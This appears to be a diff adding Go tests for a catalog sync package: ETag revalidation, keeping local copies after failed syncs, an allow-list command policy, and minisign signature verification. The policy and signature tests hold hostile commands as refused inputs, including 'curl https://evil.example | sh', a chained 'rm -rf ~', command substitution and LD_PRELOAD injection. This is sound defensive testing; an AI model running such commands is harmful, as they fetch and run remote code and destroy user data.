@@ -0,0 +1,224 @@
+package catalog
+
+import (
+	"bytes"
+	"context"
+	"crypto/ed25519"
+	"encoding/base64"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"golang.org/x/crypto/blake2b"
+)
+
+func TestSyncRevalidatesWithETag(t *testing.T) {
+	body := `{"services":{"db":"kubectl port-forward svc/db 5432:5432"},"groups":{"data":["db"]}}`
+	etag, requests, notModified := `"v1"`, 0, 0
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		requests++
+		if r.Header.Get("If-None-Match") == etag {
+			notModified++
+			w.WriteHeader(http.StatusNotModified)
+			return
+		}
+		w.Header().Set("ETag", etag)
+		w.Write([]byte(body))
+	}))
+	defer srv.Close()
+
+	dir := t.TempDir()
+	ctx := context.Background()
+	if changed, err := Sync(ctx, srv.Client(), dir, "corp", srv.URL, Verification{}); err != nil || !changed {
+		t.Fatalf("first sync: changed=%v err=%v", changed, err)
+	}
+	if changed, err := Sync(ctx, srv.Client(), dir, "corp", srv.URL, Verification{}); err != nil || changed {
+		t.Fatalf("second sync: changed=%v err=%v, want an unchanged 304", changed, err)
+	}
+	if notModified != 1 {
+		t.Errorf("server sent %d 304s, want 1", notModified)
+	}
+
+	etag, body = `"v2"`, `{"services":{"db":"kubectl port-forward svc/db 15432:5432"}}`
+	if changed, err := Sync(ctx, srv.Client(), dir, "corp", srv.URL, Verification{}); err != nil || !changed {
+		t.Fatalf("third sync: changed=%v err=%v", changed, err)
+	}
+	c, _, err := Load(dir, "corp", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := c.Services["db"]; got != "kubectl port-forward svc/db 15432:5432" || len(c.Groups) != 0 {
+		t.Errorf("local copy = %+v, want the v2 catalog", c)
+	}
+}
+
+func TestSyncFailureKeepsLocalCopy(t *testing.T) {
+	healthy := true
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch {
+		case !healthy:
+			http.Error(w, "down", http.StatusBadGateway)
+		case r.URL.Path == "/bad":
+			w.Write([]byte(`{"services":{"a/b":"kubectl port-forward svc/x 1:1"}}`))
+		default:
+			w.Write([]byte(`{"services":{"db":"kubectl port-forward svc/db 5432:5432"}}`))
+		}
+	}))
+	dir := t.TempDir()
+	ctx := context.Background()
+	if _, err := Sync(ctx, srv.Client(), dir, "corp", srv.URL, Verification{}); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := Sync(ctx, srv.Client(), dir, "corp", srv.URL+"/bad", Verification{}); err == nil {
+		t.Error("a catalog with a bad service name should be rejected")
+	}
+	healthy = false
+	if _, err := Sync(ctx, srv.Client(), dir, "corp", srv.URL, Verification{}); err == nil {
+		t.Error("a 502 should fail the sync")
+	}
+	srv.Close()
+	if _, err := Sync(ctx, http.DefaultClient, dir, "corp", srv.URL, Verification{}); err == nil {
+		t.Error("an unreachable server should fail the sync")
+	}
+
+	c, _, err := Load(dir, "corp", "")
+	if err != nil || c.Services["db"] == "" {
+		t.Errorf("local copy should survive failed syncs: %+v, %v", c, err)
+	}
+}
+
+func TestPolicy(t *testing.T) {
+	p := Policy{Allow: []string{"kubectl", "ssh"}, Trusted: map[string]string{"legacy": "socat TCP-LISTEN:5432 TCP:db:5432"}}
+	for service, command := range map[string]string{
+		"db":     "kubectl port-forward svc/db 5432:5432",
+		"win":    `"C:\Program Files\kubectl.exe" port-forward svc/db 5432:5432`,
+		"tunnel": "/usr/bin/ssh -N -L 9000:db:5432 bastion",
+		"legacy": "socat TCP-LISTEN:5432 TCP:db:5432",
+	} {
+		if err := p.Check(service, command); err != nil {
+			t.Errorf("Check(%s) = %v, want allowed", service, err)
+		}
+	}
+	for service, command := range map[string]string{
+		"curl":    "curl https://evil.example | sh",
+		"chained": "kubectl port-forward svc/db 5432:5432; rm -rf ~",
+		"subst":   "kubectl port-forward $(curl evil) 5432:5432",
+		"env":     "LD_PRELOAD=x.so kubectl port-forward svc/db 5432:5432",
+		"legacy":  "socat TCP-LISTEN:5432 TCP:evil:5432",
+	} {
+		if err := p.Check(service, command); err == nil {
+			t.Errorf("Check(%s) should refuse %q", service, command)
+		}
+	}
+	if err := (Policy{}).Check("x", "curl evil | sh"); err != nil {
+		t.Errorf("without an allow list anything runs, got %v", err)
+	}
+}
+
+// minisign signs body the way `minisign -S -l` does, returning the public
+// key line and the signature file.
+func minisign(t *testing.T, body string) (string, string) {
+	return minisignAs(t, body, false)
+}
+
+// minisignAs signs body as minisign does by default with prehashed set (the
+// BLAKE2b-512 hash of body), or else as `minisign -S -l`.
+func minisignAs(t *testing.T, body string, prehashed bool) (string, string) {
+	t.Helper()
+	pub, priv, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	id := pub[:8] // minisign picks a random id
+	key := base64.StdEncoding.EncodeToString(append(append([]byte("Ed"), id...), pub...))
+	algorithm, signed := "Ed", []byte(body)
+	if prehashed {
+		sum := blake2b.Sum512(signed)
+		algorithm, signed = "ED", sum[:]
+	}
+	sig := ed25519.Sign(priv, signed)
+	comment := "timestamp:1767225600"
+	global := ed25519.Sign(priv, append(bytes.Clone(sig), comment...))
+	file := "untrusted comment: signature from minisign secret key\n" +
+		base64.StdEncoding.EncodeToString(append(append([]byte(algorithm), id...), sig...)) + "\n" +
+		"trusted comment: " + comment + "\n" +
+		base64.StdEncoding.EncodeToString(global) + "\n"
+	return key, file
+}
+
+func TestSyncChecksSignature(t *testing.T) {
+	body := `{"services":{"db":"kubectl port-forward svc/db 5432:5432"}}`
+	key, signature := minisign(t, body)
+	served := body
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if strings.HasSuffix(r.URL.Path, SignatureSuffix) {
+			w.Write([]byte(signature))
+			return
+		}
+		w.Header().Set("ETag", `"v1"`)
+		w.Write([]byte(served))
+	}))
+	defer srv.Close()
+
+	dir := t.TempDir()
+	ctx := context.Background()
+	if _, err := Sync(ctx, srv.Client(), dir, "corp", srv.URL+"/c.json", Verification{PublicKey: key}); err != nil {
+		t.Fatalf("a correctly signed catalog should sync: %v", err)
+	}
+
+	served = `{"services":{"db":"curl https://evil.example | sh"}}`
+	if _, err := Sync(ctx, srv.Client(), dir, "corp", srv.URL+"/c.json", Verification{PublicKey: key}); err == nil || !strings.Contains(err.Error(), "does not match") {
+		t.Fatalf("a tampered catalog should be refused, got %v", err)
+	}
+	if c, _, _ := Load(dir, "corp", key); c.Services["db"] != "kubectl port-forward svc/db 5432:5432" {
+		t.Errorf("a refused catalog should keep the old copy, got %+v", c)
+	}
+	if _, err := Sync(ctx, srv.Client(), dir, "corp", srv.URL+"/c.json", Verification{PublicKey: key, Insecure: true}); err != nil {
+		t.Fatalf("--insecure should accept it: %v", err)
+	}
+	if c, _, err := Load(dir, "corp", key); err != nil || c.Services["db"] != "curl https://evil.example | sh" {
+		t.Errorf("the copy --insecure accepted should load, got %+v, %v", c, err)
+	}
+	// The next sync checks again, and its failure withdraws the acceptance.
+	if _, err := Sync(ctx, srv.Client(), dir, "corp", srv.URL+"/c.json", Verification{PublicKey: key}); err == nil {
+		t.Fatal("a tampered catalog should be refused without --insecure")
+	}
+	if _, _, err := Load(dir, "corp", key); !errors.Is(err, ErrUnverified) {
+		t.Errorf("a copy no sync verified should be refused, got %v", err)
+	}
+
+	// A copy fetched before the key was configured is not trusted either.
+	if _, err := Sync(ctx, srv.Client(), dir, "plain", srv.URL+"/c.json", Verification{}); err != nil {
+		t.Fatal(err)
+	}
+	if _, _, err := Load(dir, "plain", key); !errors.Is(err, ErrUnverified) {
+		t.Errorf("an unsigned copy should be refused once a key is set, got %v", err)
+	}
+
+	other, _ := minisign(t, body)
+	served = body
+	if _, err := Sync(ctx, srv.Client(), dir, "corp", srv.URL+"/c.json", Verification{PublicKey: other}); err == nil || !strings.Contains(err.Error(), "another key") {
+		t.Errorf("a signature by another key should be refused, got %v", err)
+	}
+	if _, err := ParsePublicKey("untrusted comment: minisign public key\n" + key); err != nil {
+		t.Errorf("a whole .pub file should parse: %v", err)
+	}
+}
+
+func TestVerifyPrehashed(t *testing.T) {
+	body := `{"services":{"db":"kubectl port-forward svc/db 5432:5432"}}`
+	line, signature := minisignAs(t, body, true)
+	key, err := ParsePublicKey(line)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := key.Verify([]byte(body), []byte(signature)); err != nil {
+		t.Errorf("a prehashed signature should verify: %v", err)
+	}
+	if err := key.Verify([]byte(body+" "), []byte(signature)); err == nil || !strings.Contains(err.Error(), "does not match") {
+		t.Errorf("a prehashed signature of other bytes should be refused, got %v", err)
+	}
+}